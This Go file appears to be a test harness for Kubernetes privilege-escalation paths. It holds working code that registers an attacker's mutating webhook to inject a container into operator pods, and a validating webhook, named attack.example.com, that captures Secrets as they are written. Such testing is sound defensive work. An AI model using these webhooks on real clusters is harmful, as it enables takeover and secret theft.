package main

import (
	"context"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"net/http"
	"net/http/httptest"
	"sync/atomic"
	"time"

	admissionv1 "k8s.io/api/admissionregistration/v1"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
)

// review is a question of the API server to a webhook, and its answer.
type review struct {
	APIVersion string `json:"apiVersion"`
	Kind       string `json:"kind"`
	Request    struct {
		UID    string        `json:"uid"`
		Object corev1.Secret `json:"object"`
	} `json:"request,omitzero"`
	Response *verdict `json:"response,omitempty"`
}

type verdict struct {
	UID       string  `json:"uid"`
	Allowed   bool    `json:"allowed"`
	PatchType *string `json:"patchType,omitempty"`
	Patch     []byte  `json:"patch,omitempty"`
}

// listens runs a webhook of the attacker's, which agrees with everything and hears it.
func (a *attacker) listens(hear func(*review) *verdict) admissionv1.WebhookClientConfig {
	server := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		var question review
		if err := json.NewDecoder(r.Body).Decode(&question); err != nil {
			http.Error(w, err.Error(), http.StatusBadRequest)
			return
		}
		answer := review{APIVersion: question.APIVersion, Kind: question.Kind, Response: hear(&question)}
		answer.Response.UID, answer.Response.Allowed = question.Request.UID, true
		w.Header().Set("Content-Type", "application/json")
		_ = json.NewEncoder(w).Encode(answer)
	}))
	a.t.Cleanup(server.Close)
	url := server.URL + "/"
	return admissionv1.WebhookClientConfig{URL: &url, CABundle: pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: server.Certificate().Raw})}
}

// on selects one kind in one namespace, so that other stages are left alone.
func on(namespace, resource string, operations ...admissionv1.OperationType) (*metav1.LabelSelector, []admissionv1.RuleWithOperations) {
	return &metav1.LabelSelector{MatchLabels: map[string]string{corev1.LabelMetadataName: namespace}}, []admissionv1.RuleWithOperations{{
		Operations: operations, Rule: admissionv1.Rule{APIGroups: []string{""}, APIVersions: []string{"v1"}, Resources: []string{resource}},
	}}
}

// hookPods has a webhook put the attacker's container into each new pod of the operator.
func hookPods(a *attacker) error {
	patch, kind := fmt.Sprintf(`[{"op":"add","path":"/spec/containers/-","value":{"name":"attack","image":%q}}]`, attack), "JSONPatch"
	config := a.listens(func(*review) *verdict { return &verdict{PatchType: &kind, Patch: []byte(patch)} })
	selector, rules := on(a.ns, "pods", admissionv1.Create)
	ignore, none := admissionv1.Ignore, admissionv1.SideEffectClassNone
	_, err := a.client.AdmissionregistrationV1().MutatingWebhookConfigurations().Create(a.ctx, &admissionv1.MutatingWebhookConfiguration{
		ObjectMeta: metav1.ObjectMeta{Name: a.ns},
		Webhooks: []admissionv1.MutatingWebhook{{Name: "attack.example.com", ClientConfig: config, NamespaceSelector: selector, Rules: rules,
			FailurePolicy: &ignore, SideEffects: &none, AdmissionReviewVersions: []string{"v1"}}},
	}, metav1.CreateOptions{})
	return a.infects(err)
}

// hookSecrets has a webhook hear of the Secrets that somebody writes.
func hookSecrets(a *attacker) error {
	var heard atomic.Pointer[corev1.Secret]
	config := a.listens(func(r *review) *verdict {
		heard.Store(&r.Request.Object)
		return &verdict{}
	})
	selector, rules := on(a.vault, "secrets", admissionv1.Create, admissionv1.Update)
	ignore, none := admissionv1.Ignore, admissionv1.SideEffectClassNone
	_, err := a.client.AdmissionregistrationV1().ValidatingWebhookConfigurations().Create(a.ctx, &admissionv1.ValidatingWebhookConfiguration{
		ObjectMeta: metav1.ObjectMeta{Name: a.ns},
		Webhooks: []admissionv1.ValidatingWebhook{{Name: "attack.example.com", ClientConfig: config, NamespaceSelector: selector, Rules: rules,
			FailurePolicy: &ignore, SideEffects: &none, AdmissionReviewVersions: []string{"v1"}}},
	}, metav1.CreateOptions{})
	if err != nil {
		return err
	}
	err = a.waits("a Secret that was written", func(ctx context.Context) bool {
		// Its owner notes the time on it.
		patch := fmt.Sprintf(`{"metadata":{"annotations":{"seen":%q}}}`, time.Now())
		_, _ = a.admin.CoreV1().Secrets(a.vault).Patch(ctx, "prize", types.MergePatchType, []byte(patch), metav1.PatchOptions{})
		return heard.Load() != nil
	})
	if err != nil {
		return err
	}
	return a.prized(heard.Load())
}

func hookSchemes() []scheme {
	const mutating, validating = "create mutatingwebhookconfigurations.admissionregistration.k8s.io", "create validatingwebhookconfigurations.admissionregistration.k8s.io"
	return []scheme{
		{name: "a webhook that rewrites pods", hops: "A-03", to: "cluster-admin", objects: operator, held: []right{{"", mutating}}, walk: hookPods, near: []neighbour{
			{"a webhook that refuses only", may(0, validating)},
			{"a name, which a request to create has not", may(0, mutating+" {ns}")},
			{"a binding of one namespace", at(0, "ns")},
		}},
		{name: "a webhook that hears of Secrets", hops: "A-04", held: []right{{"", validating}}, walk: hookSecrets, near: []neighbour{
			{"another verb", may(0, "get,list,watch,delete validatingwebhookconfigurations.admissionregistration.k8s.io")},
			{"a binding of one namespace", at(0, "ns")},
		}},
	}
}
